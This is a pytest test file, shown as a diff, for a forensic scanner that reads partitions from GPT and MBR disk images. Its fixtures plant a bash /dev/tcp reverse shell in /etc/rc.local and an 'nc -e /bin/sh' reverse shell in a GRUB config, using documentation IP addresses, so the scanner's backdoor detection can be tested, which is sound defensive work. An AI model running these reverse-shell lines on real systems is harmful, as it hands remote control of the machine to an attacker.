@@ -1,0 +1,354 @@
+"""Whole-disk images: the partitions of a GPT or MBR disk (raw, qcow2, VMDK, VHD, VHDX) are found,
+read by their content and scanned like a directory; bad tables are reported with their offset.
+
+Disks are built here with the standard tools and no mount or loop device: ``mke2fs -d`` fills an
+ext4 filesystem from a directory, ``mkfs.vfat`` + ``mcopy`` an EFI system partition, ``sfdisk``
+writes the partition table into a sparse file, ``qemu-img convert`` makes the VM formats.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import struct
+import subprocess
+import zlib
+from pathlib import Path
+
+import pytest
+
+from cranewatch.cli import main
+from cranewatch.errors import ImageError
+from cranewatch.forensics import ScanResult, open_image, scan_image
+from cranewatch.forensics.artefacts import plant
+from cranewatch.forensics.disk import DiskImage, Partition, read_layout, sniff_container
+from cranewatch.forensics.image import detect_format
+
+MIB = 1 << 20
+ESP = "C12A7328-F81F-11D2-BA4B-00A0C93EC93B"
+LINUX = "0FC63DAF-8483-4772-8E79-3D69D8477DE4"
+SWAP = "0657FD6D-A4AB-43C4-84E5-0933C84B4F4F"
+GRUB_CFG = 'set timeout=1\nmenuentry "cms" {\n  linux /vmlinuz root=/dev/sda2 init=/bin/sh -c "nc 203.0.113.9 4444 -e /bin/sh"\n}\n'
+
+
+def _which(name: str) -> str:
+    found = shutil.which(name) or shutil.which(name, path="/usr/sbin:/sbin")
+    if found is None:
+        pytest.skip(f"{name} is not installed (scripts/install-deps.sh installs it)")
+    return found
+
+
+def _tree(root: Path) -> Path:
+    """A small Linux root with every planted artefact (no package database: nothing is vouched for)."""
+    for d in ("etc", "usr/bin", "var/lib"):
+        (root / d).mkdir(parents=True, exist_ok=True)
+    (root / "etc/hostname").write_text("cms-pc\n")
+    (root / "etc/rc.local").write_text("#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1 &\nexit 0\n")
+    os.chmod(root / "etc/rc.local", 0o755)
+    plant(root, package_file=None)
+    return root
+
+
+def _ext4(tree: Path, out: Path, size_mib: int) -> Path:
+    subprocess.run([_which("mke2fs"), "-q", "-F", "-t", "ext4", "-d", str(tree), str(out), f"{size_mib}M"], check=True)
+    return out
+
+
+def _fat(tree: Path, out: Path, size_mib: int) -> Path:
+    subprocess.run(["truncate", "-s", f"{size_mib}M", str(out)], check=True)
+    subprocess.run([_which("mkfs.vfat"), "-F", "32" if size_mib >= 33 else "16", str(out)], check=True, stdout=subprocess.DEVNULL)
+    env = {**os.environ, "MTOOLS_SKIP_CHECK": "1"}
+    for item in sorted(tree.iterdir()):
+        subprocess.run([_which("mcopy"), "-s", "-i", str(out), str(item), "::/"], check=True, env=env)
+    return out
+
+
+def _swap(out: Path, size_mib: int) -> Path:
+    subprocess.run(["truncate", "-s", f"{size_mib}M", str(out)], check=True)
+    subprocess.run([_which("mkswap"), str(out)], check=True, stdout=subprocess.DEVNULL)
+    return out
+
+
+def _disk(out: Path, label: str, parts: list[tuple[Path | None, int, str]], extra_mib: int = 1) -> Path:
+    """A disk of ``parts`` (content file or None, size MiB, sfdisk type), written at 1 MiB steps."""
+    total = 1 + sum(size for _, size, _ in parts) + extra_mib
+    subprocess.run(["truncate", "-s", f"{total}M", str(out)], check=True)
+    lines = [f"label: {label}"]
+    start = 1
+    for _content, size, kind in parts:
+        lines.append(f"start={start * 2048}, size={size * 2048}, type={kind}")
+        start += size
+    subprocess.run([_which("sfdisk"), "-q", str(out)], input="\n".join(lines) + "\n", text=True, check=True,
+                   stdout=subprocess.DEVNULL)
+    start = 1
+    with open(out, "r+b") as disk:
+        for content, size, _kind in parts:
+            if content is not None:
+                disk.seek(start * MIB)
+                with open(content, "rb") as fh:
+                    shutil.copyfileobj(fh, disk, MIB)
+            start += size
+    return out
+
+
+def _convert(raw: Path, fmt: str, out: Path) -> Path:
+    subprocess.run([_which("qemu-img"), "convert", "-q", "-f", "raw", "-O", fmt, str(raw), str(out)], check=True)
+    return out
+
+
+def _keys(result: ScanResult, strip: str = "") -> set[tuple[str, str, str]]:
+    out = set()
+    for f in result.findings:
+        path = f.evidence[0].path or "" if f.evidence else ""
+        if strip and path.startswith(strip):
+            path = path[len(strip):]
+        out.add((f.rule, f.severity.name, path))
+    return out
+
+
+@pytest.fixture(scope="module")
+def planted_tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return _tree(tmp_path_factory.mktemp("root"))
+
+
+@pytest.fixture(scope="module")
+def gpt_disk(tmp_path_factory: pytest.TempPathFactory, planted_tree: Path) -> Path:
+    work = tmp_path_factory.mktemp("gpt")
+    esp_tree = work / "esp"
+    (esp_tree / "EFI/debian").mkdir(parents=True)
+    (esp_tree / "EFI/debian/grub.cfg").write_text(GRUB_CFG)
+    esp = _fat(esp_tree, work / "esp.img", 34)
+    root = _ext4(planted_tree, work / "root.img", 24)
+    return _disk(work / "disk.raw", "gpt", [(esp, 34, ESP), (root, 24, LINUX)])
+
+
+@pytest.fixture(scope="module")
+def dir_result(planted_tree: Path) -> ScanResult:
+    return scan_image(planted_tree, workers=1)
+
+
+@pytest.fixture(scope="module")
+def gpt_result(gpt_disk: Path) -> ScanResult:
+    return scan_image(gpt_disk, workers=1)
+
+
+# --- the partition table, parsed by hand-checked offsets -------------------------------------------
+
+
+def _sfdisk_json(disk: Path) -> list[dict[str, object]]:
+    import json
+
+    dump = subprocess.run([_which("sfdisk"), "--json", str(disk)], capture_output=True, text=True, check=True)
+    return list(json.loads(dump.stdout)["partitiontable"]["partitions"])
+
+
+def _read_at(path: Path):  # type: ignore[no-untyped-def]
+    data = path.read_bytes()
+    return (lambda offset, length: data[offset : offset + length]), len(data)
+
+
+def test_gpt_layout_matches_sfdisk(gpt_disk: Path) -> None:
+    read_at, size = _read_at(gpt_disk)
+    layout = read_layout(read_at, size)
+    assert layout.scheme == "gpt" and layout.problems == ()
+    want = [(int(p["start"]) * 512, int(p["size"]) * 512) for p in _sfdisk_json(gpt_disk)]  # type: ignore[call-overload]
+    assert [(p.offset, p.size) for p in layout.partitions] == want == [(MIB, 34 * MIB), (35 * MIB, 24 * MIB)]
+    assert [(p.label, p.type) for p in layout.partitions] == [("p1", "EFI system"), ("p2", "Linux filesystem")]
+
+
+def test_mbr_with_logical_partitions(tmp_path: Path, planted_tree: Path) -> None:
+    root = _ext4(planted_tree, tmp_path / "root.img", 24)
+    swap = _swap(tmp_path / "swap.img", 4)
+    disk = tmp_path / "mbr.raw"
+    subprocess.run(["truncate", "-s", "40M", str(disk)], check=True)
+    # p1 swap, p2 extended holding p5 (ext4) and p6 (empty Linux): sfdisk numbers logicals from 5
+    script = ("label: dos\nstart=2048, size=8192, type=82\nstart=10240, size=71680, type=5\n"
+              "start=12288, size=49152, type=83\nstart=63488, size=8192, type=83\n")
+    subprocess.run([_which("sfdisk"), "-q", str(disk)], input=script, text=True, check=True, stdout=subprocess.DEVNULL)
+    with open(disk, "r+b") as fh:
+        fh.seek(2048 * 512)
+        fh.write(swap.read_bytes())
+        fh.seek(12288 * 512)
+        fh.write(root.read_bytes())
+    read_at, size = _read_at(disk)
+    layout = read_layout(read_at, size)
+    want = [(int(p["node"][-1]), int(p["start"]) * 512) for p in _sfdisk_json(disk) if p["type"] != "5"]  # type: ignore[index, call-overload]
+    assert [(p.index, p.offset) for p in layout.partitions] == want == [(1, MIB), (5, 12288 * 512), (6, 63488 * 512)]
+    assert [p.type for p in layout.partitions] == ["0x82", "0x83", "0x83"]
+    result = scan_image(disk, workers=1)
+    assert ("backdoor", "p5:/etc/rc.local") in {(f.category, f.evidence[0].path) for f in result.findings}
+    assert any("p1" in w and "swap" in w and "skipped" in w for w in result.warnings)
+    assert any("p6" in w and "empty" in w for w in result.warnings)
+
+
+# --- findings: the same as the directory scan, named by partition -----------------------------------
+
+
+def test_gpt_disk_gives_the_directory_findings_named_by_partition(gpt_result: ScanResult, dir_result: ScanResult) -> None:
+    root_keys = {k for k in _keys(gpt_result) if k[2].startswith("p2:/")}
+    assert {(r, s, p[len("p2:/"):]) for r, s, p in root_keys} == _keys(dir_result)
+    assert len(root_keys) >= 15
+    paths = {f.evidence[0].path for f in gpt_result.findings}
+    assert "p2:/etc/rc.local" in paths and "p2:/root/.ssh/authorized_keys" in paths
+    assert "p2:/etc/teamviewer/global.conf" in paths
+    # root findings keep the directory scan's ids; evidence says where the partition is
+    assert {f.id for f in gpt_result.findings if f.evidence[0].path.startswith("p2:/")} == {f.id for f in dir_result.findings}
+    rc = next(f for f in gpt_result.findings if f.evidence[0].path == "p2:/etc/rc.local")
+    assert rc.evidence[0].values["partition_offset"] == 35 * MIB and rc.evidence[0].values["filesystem"] == "ext"
+    assert gpt_result.inputs[0].format == "disk"
+    assert any(w.startswith("disk (GPT, raw): scanned p1 fat at byte 1048576, p2 ext (root) at byte 36700160") for w in gpt_result.warnings)
+
+
+def test_efi_system_partition_is_extracted_and_scanned(gpt_result: ScanResult) -> None:
+    esp = [f for f in gpt_result.findings if (f.evidence[0].path or "").startswith("p1:/")]
+    assert "p1:/EFI/debian/grub.cfg" in {f.evidence[0].path for f in esp}, [f.to_json() for f in esp]
+
+
+@pytest.mark.parametrize("fmt", ["qcow2", "vmdk", "vhdx", "vpc"])
+def test_vm_disk_formats_give_the_raw_disk_findings(tmp_path: Path, gpt_disk: Path, gpt_result: ScanResult, fmt: str) -> None:
+    image = _convert(gpt_disk, fmt, tmp_path / f"disk.{fmt}")
+    expected = {"qcow2": "qcow2", "vmdk": "vmdk", "vhdx": "vhdx", "vpc": "vhd"}[fmt]
+    assert sniff_container(image) == expected
+    assert detect_format(image) == ("disk", None)
+    result = scan_image(image, workers=1)
+    assert _keys(result) == _keys(gpt_result)
+    assert any(f"disk (GPT, {expected})" in w for w in result.warnings)
+
+
+def test_cli_scans_a_qcow2_disk(tmp_path: Path, gpt_disk: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    image = _convert(gpt_disk, "qcow2", tmp_path / "crane.qcow2")
+    code = main(["scan-image", str(image), "--format", "jsonl"])
+    out = capsys.readouterr().out
+    assert code == 0
+    assert '"path": "p2:/etc/rc.local"' in out
+
+
+def test_qcow2_with_a_backing_file_on_the_host_is_refused(tmp_path: Path, gpt_disk: Path) -> None:
+    image = tmp_path / "overlay.qcow2"
+    subprocess.run([_which("qemu-img"), "create", "-q", "-f", "qcow2", "-F", "raw", "-b", str(gpt_disk), str(image)], check=True)
+    with pytest.raises(ImageError, match="backing file"):
+        open_image(image)
+
+
+def test_e01_disk(tmp_path: Path, gpt_disk: Path, gpt_result: ScanResult) -> None:
+    acquire = _which("ewfacquire")
+    target = tmp_path / "crane"
+    subprocess.run([acquire, "-u", "-q", "-t", str(target), "-f", "encase6", "-c", "fast", str(gpt_disk)], check=True,
+                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
+    e01 = tmp_path / "crane.E01"
+    assert sniff_container(e01) == "e01"
+    assert _keys(scan_image(e01, workers=1)) == _keys(gpt_result)
+
+
+# --- bad tables and disks with nothing to read ------------------------------------------------------
+
+
+def test_corrupt_primary_gpt_is_reported_and_the_backup_used(tmp_path: Path, gpt_disk: Path, gpt_result: ScanResult) -> None:
+    disk = tmp_path / "bad.raw"
+    shutil.copyfile(gpt_disk, disk)
+    with open(disk, "r+b") as fh:
+        fh.seek(512 + 24)  # the primary header's "current LBA": the header CRC no longer matches
+        fh.write(struct.pack("<Q", 99))
+    result = scan_image(disk, workers=1)
+    assert any("GPT header at byte 512: header CRC32 mismatch" in w for w in result.warnings)
+    backup = disk.stat().st_size - 512
+    assert any(f"backup GPT at byte {backup}" in w for w in result.warnings)
+    assert _keys(result) == _keys(gpt_result)
+
+
+def test_partition_past_the_end_is_reported_with_its_offset_and_the_rest_scanned(tmp_path: Path, gpt_disk: Path) -> None:
+    disk = tmp_path / "mbr.raw"
+    with open(gpt_disk, "rb") as src:
+        src.seek(35 * MIB)
+        root = src.read(24 * MIB)
+    subprocess.run(["truncate", "-s", "30M", str(disk)], check=True)
+    script = "label: dos\nstart=2048, size=49152, type=83\nstart=51200, size=8192, type=83\n"
+    subprocess.run([_which("sfdisk"), "-q", str(disk)], input=script, text=True, check=True, stdout=subprocess.DEVNULL)
+    with open(disk, "r+b") as fh:
+        fh.seek(MIB)
+        fh.write(root)
+        # entry 2 (at byte 446 + 16) now claims 1 GiB: past the end of the 30 MiB disk
+        fh.seek(446 + 16 + 12)
+        fh.write(struct.pack("<I", 2 * MIB))
+    result = scan_image(disk, workers=1)
+    assert any("MBR entry 2 at byte 462" in w and "runs past the end" in w for w in result.warnings), result.warnings
+    assert "p1:/etc/rc.local" in {f.evidence[0].path for f in result.findings}
+
+
+def test_ebr_chain_loop_is_reported_not_followed_forever() -> None:
+    disk = bytearray(4 * MIB)
+    disk[510:512] = b"\x55\xaa"
+    disk[446 + 4] = 0x05
+    disk[446 + 8 : 446 + 16] = struct.pack("<II", 2048, 4096)
+    ebr = 2048 * 512
+    disk[ebr + 510 : ebr + 512] = b"\x55\xaa"
+    disk[ebr + 446 + 4] = 0x83
+    disk[ebr + 446 + 8 : ebr + 446 + 16] = struct.pack("<II", 1, 100)
+    disk[ebr + 462 + 4] = 0x05  # the next EBR is this one again
+    disk[ebr + 462 + 8 : ebr + 462 + 16] = struct.pack("<II", 0 + 0, 4096)
+    disk[ebr + 462 + 8 : ebr + 462 + 12] = struct.pack("<I", 0)
+    layout = read_layout(lambda o, n: bytes(disk[o : o + n]), len(disk))
+    assert [(p.index, p.offset, p.size) for p in layout.partitions] == [(5, (2048 + 1) * 512, 100 * 512)]
+    # next_start 0 ends the chain; now point it back at itself by its relative offset 0 -> loop via 2048
+    disk[ebr + 462 + 8 : ebr + 462 + 12] = struct.pack("<I", 8)
+    nxt = (2048 + 8) * 512
+    disk[nxt + 510 : nxt + 512] = b"\x55\xaa"
+    disk[nxt + 462 + 4] = 0x05
+    disk[nxt + 462 + 8 : nxt + 462 + 12] = struct.pack("<I", 8)  # points at itself
+    layout = read_layout(lambda o, n: bytes(disk[o : o + n]), len(disk))
+    assert any(f"loops back to the EBR at byte {nxt}" in p for p in layout.problems)
+
+
+def test_damaged_gpt_entries_crc_is_reported_with_offset() -> None:
+    sector = 512
+    disk = bytearray(2 * MIB)
+    disk[510:512] = b"\x55\xaa"
+    disk[446 + 4] = 0xEE
+    entries = bytearray(128 * 128)
+    struct.pack_into("<16s16sQQ", entries, 0, bytes.fromhex("af3dc60f838472478e793d69d8477de4"), b"\x01" * 16, 34, 2000)
+    header = bytearray(92)
+    struct.pack_into("<8sIIIIQQQQ16sQIII", header, 0, b"EFI PART", 0x10000, 92, 0, 0, 1, 4095, 34, 4000,
+                     b"\x02" * 16, 2, 128, 128, zlib.crc32(entries))
+    struct.pack_into("<I", header, 16, zlib.crc32(header))
+    disk[sector : sector + 92] = header
+    disk[2 * sector : 2 * sector + len(entries)] = entries
+    layout = read_layout(lambda o, n: bytes(disk[o : o + n]), len(disk))
+    assert [(p.offset, p.type) for p in layout.partitions] == [(34 * 512, "Linux filesystem")]
+    disk[2 * sector + 40] ^= 0xFF  # flip a byte of the first entry's end LBA
+    layout = read_layout(lambda o, n: bytes(disk[o : o + n]), len(disk))
+    assert layout.partitions == ()
+    assert "GPT partition array at byte 1024 (of the header at byte 512): CRC32 mismatch" in layout.problems
+    assert "no GPT header signature at byte 2096640" in layout.problems  # no backup at the last LBA
+
+
+def test_disk_with_only_swap_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    swap = _swap(tmp_path / "swap.img", 8)
+    disk = _disk(tmp_path / "swap.raw", "gpt", [(swap, 8, SWAP)])
+    with pytest.raises(ImageError, match=r"holds no partition with a filesystem cranewatch reads \(p1 .*swap space"):
+        open_image(disk)
+    assert main(["scan-image", str(disk)]) == 3
+    err = capsys.readouterr().err
+    assert "swap" in err and "Traceback" not in err
+
+
+def test_a_bare_fat_or_ext_partition_is_not_taken_for_a_disk(tmp_path: Path, planted_tree: Path) -> None:
+    tree = tmp_path / "t"
+    (tree / "EFI").mkdir(parents=True)
+    (tree / "EFI/x").write_text("x")
+    assert sniff_container(_fat(tree, tmp_path / "esp.img", 34)) is None
+    assert detect_format(_ext4(planted_tree, tmp_path / "root.img", 24)) == ("ext", None)
+
+
+def test_disk_image_closes_every_volume(gpt_disk: Path) -> None:
+    image = open_image(gpt_disk)
+    assert isinstance(image, DiskImage)
+    roots = [v.image.root for v in image.volumes]
+    assert [v.label for v in image.volumes] == ["p1", "p2"] and all(r.exists() for r in roots)
+    assert "etc/rc.local" in image.entries  # the disk presents its root volume
+    image.close()
+    assert not any(r.exists() for r in roots)
+
+
+def test_partition_describe_names_index_offset_and_type() -> None:
+    part = Partition(2, 35 * MIB, 24 * MIB, "gpt", "Linux filesystem", "root")
+    assert part.describe() == "p2 'root' (GPT Linux filesystem, 25165824 bytes at byte 36700160)"
